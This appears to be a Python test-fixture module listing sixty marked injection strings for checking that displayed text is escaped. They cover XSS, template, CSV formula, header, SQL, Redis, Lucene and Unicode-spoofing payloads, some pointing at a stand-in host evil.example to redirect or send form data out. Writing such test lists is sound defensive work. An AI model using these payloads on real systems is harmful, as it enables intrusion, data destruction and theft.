"""Sixty texts that try to be something else than text; each holds a mark by which it is found where it is shown."""

from typing import Final

_ATTACKS: Final = (
    # HTML
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "</textarea><script>alert({n})</script>",
    '"><script>alert({n})</script>',
    "'><img src=x onerror='alert({n})'>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "</title><script>alert({n})</script>",
    "--><script>alert({n})</script>",
    "<style>*{{display:none}}</style>",
    "<a href=javascript:alert({n})>x</a>",
    "<math><mtext><img src=x onerror=alert({n})>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example><input name=q>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<template><script>alert({n})</script></template>",
    "<b hx-get=/events hx-trigger=load>x</b>",
    # JavaScript and templates
    "';alert({n});//",
    '";alert({n});//',
    "`${{alert({n})}}`",
    "{{{{7*7}}}}{n}",
    "{{%import os%}}{n}",
    "javascript:alert({n})",
    "</script><script>alert({n})</script>",
    "__proto__[x]={n}",
    "constructor.prototype.x{n}",
    "\\u003cscript\\u003ealert({n})",
    # CSV
    "=cmd|'/c calc'!A{n}",
    "+1+{n}",
    "-2+3+{n}",
    "@SUM(A1:A{n})",
    "\t=1+{n}",
    "a;=1+{n}",
    '"=1+{n}"',
    # lines and headers
    "x\r\nSet-Cookie: a={n}",
    "x\nX-Injected: {n}",
    "x\r\n\r\n<script>alert({n})</script>",
    "%0d%0aLocation:%20//evil.example/{n}",
    "x\x00y{n}",
    "x\x1b[2J{n}",
    # SQL, Redis, Lucene
    "' OR '1'='1' -- {n}",
    "'; DROP TABLE events; -- {n}",
    "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\n{n}\r\n",
    "\r\nFLUSHALL\r\n{n}",
    "redis.call('FLUSHALL') {n}",
    "*:* OR {n}",
    "type:(a OR (b AND {n}",
    "/.*/ [* TO *] {n}~2^9",
    "\\{n}\\",
    "_exists_:raw {n}",
    # Unicode
    "\u202egnp.exe{n}",
    "\u200b\u2066a\u2069{n}",
    "a\u0301\u0301\u0301\u0301\u0301{n}",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467{n}",
    "\ufeff{n}\u2028\u2029",
)
SIZE: Final = 10_000_000  # characters of the last one
STRINGS: Final = (*(f"h{n:02}z {attack.format(n=n)}" for n, attack in enumerate(_ATTACKS)), f"h{len(_ATTACKS):02}z <b>" + "A" * SIZE)
MARKS: Final = tuple(text[:4] for text in STRINGS)
